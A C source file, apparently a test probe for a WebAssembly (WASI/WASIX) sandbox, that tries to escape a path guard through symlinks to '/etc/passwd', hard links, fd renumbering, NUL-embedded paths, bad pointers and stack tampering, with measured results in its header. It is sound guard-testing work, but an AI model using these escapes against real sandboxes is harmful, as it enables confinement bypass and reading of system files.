/* escape.c: multi-step escape attempts against a path guard.
 *
 * usage: probe symlink-escape DIR [DIRFD]
 *          symlink DIR/esc -> "../../../../..", open DIR/esc/etc/passwd and read;
 *          symlink DIR/esc-abs -> "/etc", open DIR/esc-abs/passwd and read.
 *          (old links of those names are unlinked first.)
 *        probe hardlink-escape SRC DST [DIRFD]
 *          path_link SRC -> DST, then open DST for writing (O_APPEND, no create) and
 *          append "x" (append, so a reachable SRC keeps its content).
 *        probe renumber-escape DIR PATH [DIRFD [FROMFD]]
 *          open DIR (a directory a guard would grant) relative to DIRFD as fd N, then
 *          fd_renumber(FROMFD (default 3), N) so N now is the FROMFD directory, then open
 *          PATH relative to N and read: catches a guard that remembers fds by number.
 *        probe open-nul PREFIX SUFFIX [DIRFD]
 *          path_open through a raw import with the path bytes PREFIX "\0" SUFFIX and the
 *          full length: catches a guard that checks a C string but passes the length.
 *        probe open-badptr [DIRFD]
 *          path_open with hostile pointers: path at 0xfffffff0, a 2 GiB path length, a path
 *          straddling the end of memory, and a result pointer at 0xffffffff (for ".",
 *          O_DIRECTORY, which opens when the pointers are fine).
 *        probe scribble-open PATH [DIRFD]
 *          fill with 0xff the stack memory above this frame (its callers' frames) up to the
 *          link-time __stack_high, where a guard may keep scratch or state after lowering
 *          the stack pointer; then open PATH and read. Never returns to main (its callers'
 *          frames are gone): exits with proc_exit(0).
 *        probe sp-open PATH [DIRFD [DELTA]]
 *          copy PATH into a static buffer at P, set the shadow-stack pointer global to
 *          P + DELTA (default: PATH's length rounded up to 16, so the stack area just
 *          below the pointer, where a guard may carve scratch, is PATH itself), call
 *          path_open through the raw import, restore the pointer, then read.
 *          data: "sp=0x.. path=0x.. open=E" and content.
 * errno: for symlink-escape and open-badptr, 0 if any open succeeded, otherwise the
 * errno of the last attempt; for the others, the errno of the final open (or its
 * read/write). data lists every step as name=errno, then "| " and any content read.
 *
 * Bare SDK 0.16.0, measured:
 *   symlink-escape /workspace (or /tmp, or ". 4") -> errno 44,
 *     "rel: symlink=0 open=63; abs: symlink=0 open=44" (".." in a link target is EPERM;
 *     absolute link targets do not resolve);
 *   hardlink-escape /workspace/a /workspace/hl2 -> "link=0 open=0 write=0 bytes=1" and
 *     /workspace/a grows by "x" (a real hard link within one command);
 *   hardlink-escape /bin/main /workspace/hl3 -> "link=0 open=0 write=63": the link to a
 *     package file is made and opened for writing; only the write fails (EPERM);
 *   renumber-escape /workspace bin/main -> errno 0, "open-dir=0 fd=6 renumber(3->6)=0
 *     open=0 | \0asm...": after fd_renumber, fd 6 is "/" (a guard keyed on fd numbers
 *     would still think it is /workspace); renumber-escape . bin/main 4 3 -> renumber=58
 *     ENOTSUP (a dir opened from fd 4 cannot be replaced by fd 3);
 *   open-nul workspace ../etc/passwd, bin/main "", "" bin/main -> 44: the host keeps
 *     the NUL as part of the name (no truncation at NUL);
 *   open-badptr (3 or 4) -> "end=78 huge=37 straddle=78 retptr=78" (78 = WASIX memory
 *     violation, 37 ENAMETOOLONG); the guest is not killed;
 *   scribble-open /bin/main -> 0; the stack is first in memory, __stack_high = 0x10000,
 *     and only 16 bytes (the crt frames) lie above main's frame;
 *   sp-open bin/main (DELTA default, 0 or 4096) -> 0 with the content: the host itself
 *     never looks at the stack pointer.
 */
#include <stdio.h>
#include <string.h>
#include "probe.h"

__attribute__((import_module("wasi_snapshot_preview1"), import_name("path_open")))
int32_t raw_path_open(int32_t fd, int32_t dirflags, int32_t path, int32_t path_len,
                      int32_t oflags, int64_t rights_base, int64_t rights_inheriting,
                      int32_t fdflags, int32_t retptr);

static char *join(char *dst, size_t cap, const char *a, const char *b) {
  snprintf(dst, cap, "%s%s", a, b);
  return dst;
}

/* Open and read PATH; appends "open=E" to steps and content to *content. */
static __wasi_errno_t try_read(__wasi_fd_t dirfd, const char *path, struct buf *steps,
                               struct buf *content) {
  __wasi_fd_t fd;
  size_t got;
  __wasi_errno_t e = probe_open(dirfd, path, 0, RIGHTS_READ, 0, &fd);
  buf_printf(steps, " open=%d", e);
  if (e) return e;
  e = probe_read(fd, content, DATA_MAX, &got);
  if (e) buf_printf(steps, " read=%d", e);
  (void)__wasi_fd_close(fd);
  return e;
}

static void finish(const char *action, const char *target, int err, struct buf *steps,
                   const struct buf *content) {
  if (content->len) { buf_str(steps, " | "); buf_add(steps, content->b, content->len); }
  report_buf(action, target, err, steps);
}

ACTION(symlink_escape) {
  static struct buf steps, content;
  char link[1100], path[1200];
  __wasi_fd_t d = arg_dirfd(argc, argv, 2);
  const char *dir = argv[1];
  int any = 0;
  __wasi_errno_t last;

  join(link, sizeof link, dir, "/esc");
  (void)__wasi_path_unlink_file(d, link);
  buf_printf(&steps, "rel: symlink=%d", __wasi_path_symlink("../../../../..", d, link));
  last = try_read(d, join(path, sizeof path, link, "/etc/passwd"), &steps, &content);
  any |= last == 0;

  join(link, sizeof link, dir, "/esc-abs");
  (void)__wasi_path_unlink_file(d, link);
  buf_printf(&steps, "; abs: symlink=%d", __wasi_path_symlink("/etc", d, link));
  last = try_read(d, join(path, sizeof path, link, "/passwd"), &steps, &content);
  any |= last == 0;

  finish("symlink-escape", dir, any ? 0 : last, &steps, &content);
  return 0;
}

ACTION(hardlink_escape) {
  static struct buf steps;
  static char target[2100];
  __wasi_fd_t d = arg_dirfd(argc, argv, 3), fd;
  size_t put = 0;
  snprintf(target, sizeof target, "%s -> %s", argv[1], argv[2]);
  buf_printf(&steps, "link=%d", __wasi_path_link(d, 0, argv[1], d, argv[2]));
  __wasi_errno_t e = probe_open(d, argv[2], 0, RIGHTS_WRITE, __WASI_FDFLAGS_APPEND, &fd);
  buf_printf(&steps, " open=%d", e);
  if (!e) {
    e = probe_write(fd, "x", 1, &put);
    buf_printf(&steps, " write=%d bytes=%zu", e, put);
    (void)__wasi_fd_close(fd);
  }
  report_buf("hardlink-escape", target, e, &steps);
  return 0;
}

ACTION(renumber_escape) {
  static struct buf steps, content;
  static char target[2100];
  __wasi_fd_t d = arg_dirfd(argc, argv, 3), from = arg_dirfd(argc, argv, 4), n;
  snprintf(target, sizeof target, "%s -> %s", argv[1], argv[2]);
  __wasi_errno_t e = probe_open(d, argv[1], __WASI_OFLAGS_DIRECTORY, RIGHTS_DIR, 0, &n);
  buf_printf(&steps, "open-dir=%d fd=%d", e, e ? -1 : (int)n);
  if (e) { report_buf("renumber-escape", target, e, &steps); return 0; }
  buf_printf(&steps, " renumber(%u->%u)=%d", from, n, __wasi_fd_renumber(from, n));
  e = try_read(n, argv[2], &steps, &content);
  finish("renumber-escape", target, e, &steps, &content);
  return 0;
}

ACTION(open_nul) {
  static struct buf steps, content;
  static char path[2100], target[2100];
  __wasi_fd_t d = arg_dirfd(argc, argv, 3), fd = (__wasi_fd_t)-1;
  size_t a = strlen(argv[1]), b = strlen(argv[2]), got;
  if (a + 1 + b > sizeof path) usage_error("PREFIX and SUFFIX too long");
  memcpy(path, argv[1], a);
  path[a] = 0;
  memcpy(path + a + 1, argv[2], b);
  snprintf(target, sizeof target, "%s\\0%s", argv[1], argv[2]);
  int32_t e = raw_path_open((int32_t)d, __WASI_LOOKUPFLAGS_SYMLINK_FOLLOW, (int32_t)(uintptr_t)path,
                            (int32_t)(a + 1 + b), 0, (int64_t)RIGHTS_READ, (int64_t)RIGHTS_ALL, 0,
                            (int32_t)(uintptr_t)&fd);
  buf_printf(&steps, "len=%zu open=%d", a + 1 + b, e);
  if (!e) {
    e = probe_read(fd, &content, DATA_MAX, &got);
    if (e) buf_printf(&steps, " read=%d", e);
    (void)__wasi_fd_close(fd);
  }
  finish("open-nul", target, e, &steps, &content);
  return 0;
}

ACTION(open_badptr) {
  static struct buf steps;
  static const char dot[] = ".";
  int32_t d = (int32_t)arg_dirfd(argc, argv, 1);
  uint32_t mem_end = (uint32_t)__builtin_wasm_memory_size(0) * 65536u;
  __wasi_fd_t fd = (__wasi_fd_t)-1;
  int32_t rp = (int32_t)(uintptr_t)&fd, e;
  int any = 0;
  struct { const char *name; int32_t path, len, oflags, ret; } t[] = {
    {"end", (int32_t)0xfffffff0u, 8, 0, rp},
    {"huge", (int32_t)(uintptr_t)dot, 0x7fffffff, 0, rp},
    {"straddle", (int32_t)(mem_end - 4), 16, 0, rp},
    {"retptr", (int32_t)(uintptr_t)dot, 1, __WASI_OFLAGS_DIRECTORY, (int32_t)0xffffffffu},
  };
  for (size_t i = 0; i < sizeof t / sizeof t[0]; i++) {
    fd = (__wasi_fd_t)-1;
    e = raw_path_open(d, 0, t[i].path, t[i].len, t[i].oflags, (int64_t)RIGHTS_READ, 0, 0, t[i].ret);
    buf_printf(&steps, "%s%s=%d", i ? " " : "", t[i].name, e);
    if (!e) { any = 1; if (t[i].ret == rp) (void)__wasi_fd_close(fd); }
  }
  report_buf("open-badptr", "", any ? 0 : e, &steps);
  return 0;
}

extern unsigned char __stack_high;

ACTION(scribble_open) {
  static char path[4096];
  static struct buf steps, content;
  volatile unsigned char here = 0;
  __wasi_fd_t d = arg_dirfd(argc, argv, 2);
  snprintf(path, sizeof path, "%s", argv[1]);   /* argv may live in the scribbled area */
  uintptr_t lo = ((uintptr_t)&here + 32) & ~(uintptr_t)15, hi = (uintptr_t)&__stack_high;
  size_t n = hi > lo ? hi - lo : 0;
  memset((void *)lo, 0xff, n);
  buf_printf(&steps, "scribbled=[0x%lx,0x%lx) bytes=%zu", (unsigned long)lo, (unsigned long)hi, n);
  __wasi_errno_t e = try_read(d, path, &steps, &content);
  finish("scribble-open", path, e, &steps, &content);
  __wasi_proc_exit(0);
}

__asm__(".globaltype __stack_pointer, i32");

static uint32_t get_sp(void) {
  uint32_t sp;
  __asm__ volatile("global.get __stack_pointer\n\tlocal.set %0" : "=r"(sp));
  return sp;
}

static void set_sp(uint32_t sp) {
  __asm__ volatile("local.get %0\n\tglobal.set __stack_pointer" : : "r"(sp));
}

ACTION(sp_open) {
  static char path[4096] __attribute__((aligned(16)));
  static struct buf steps, content;
  static __wasi_fd_t fd;
  __wasi_fd_t d = arg_dirfd(argc, argv, 2);
  size_t len = strlen(argv[1]), got;
  if (len >= sizeof path - 16) usage_error("PATH too long");
  uint32_t delta = argc > 3 ? arg_u32(argv[3]) : (uint32_t)((len + 15) & ~(size_t)15);
  memcpy(path, argv[1], len + 1);
  uint32_t saved = get_sp(), sp = (uint32_t)(uintptr_t)path + delta;
  set_sp(sp);
  int32_t e = raw_path_open((int32_t)d, __WASI_LOOKUPFLAGS_SYMLINK_FOLLOW, (int32_t)(uintptr_t)path,
                            (int32_t)len, 0, (int64_t)RIGHTS_READ, (int64_t)RIGHTS_ALL, 0,
                            (int32_t)(uintptr_t)&fd);
  set_sp(saved);
  buf_printf(&steps, "sp=0x%x path=0x%lx open=%d", sp, (unsigned long)(uintptr_t)path, (int)e);
  if (!e) {
    e = probe_read(fd, &content, DATA_MAX, &got);
    if (e) buf_printf(&steps, " read=%d", (int)e);
    (void)__wasi_fd_close(fd);
  }
  finish("sp-open", argv[1], e, &steps, &content);
  return 0;
}
